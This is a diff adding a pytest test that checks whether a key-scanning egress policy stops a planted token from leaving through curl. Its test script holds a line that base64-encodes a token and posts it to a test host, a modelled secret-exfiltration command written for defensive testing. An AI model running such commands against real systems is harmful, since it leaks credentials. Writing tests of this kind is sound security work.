@@ -1,0 +1,40 @@
+"""A key in a file that no policy names does not leave, where the policy looks for keys."""
+
+from collections.abc import Iterator
+
+import pytest
+from tests.fakes.internet import World, clients, fake_internet, why_not
+from tests.fakes.internet.standing import Standing, interpreter_for
+
+KEY = "ghp_" + "Zk4v9TqLw2Xc7Rb1" + "Ny6Hs3Jd8Mf5Pg0AeUiO"
+HOSTS = {"hosts": [{"host": "api.test", "methods": ["*"], "clearance": "internal"}]}
+LOOKS = [{"content": "keys"}]
+
+
+@pytest.fixture(scope="module")
+def world() -> Iterator[World]:
+    if reason := why_not() or clients.missing("curl"):
+        pytest.skip(reason)
+    with fake_internet() as made:
+        yield made
+
+
+@pytest.mark.parametrize(("sensitive", "expected"), [(LOOKS, ["200", "403"]), ([], ["200", "200"])])
+def test_a_key_wherever_it_lies_does_not_leave(
+    world: World, sensitive: list[dict[str, str]], expected: list[str]
+) -> None:
+    interpreter = interpreter_for(0)
+    assert interpreter
+    standing = Standing(world, 0, interpreter)
+    try:
+        standing.put("notes/deploy.md", f"The key of the robot is {KEY}, keep it.\n")
+        standing.put("notes/other.md", "Nothing of the kind.\n")
+        script = (
+            "cat notes/*.md > /dev/null\n"
+            "curl -s -o /dev/null -w '%{http_code} ' -d @notes/other.md https://api.test/a\n"
+            f"curl -s -o /dev/null -w '%{{http_code}} ' -d k=$(echo {KEY} | base64) https://api.test/b\n"
+        )
+        done = standing.sh(script, HOSTS, sensitive=sensitive)
+        assert done.stdout.decode().split() == expected, done.stderr.decode()
+    finally:
+        standing.close()
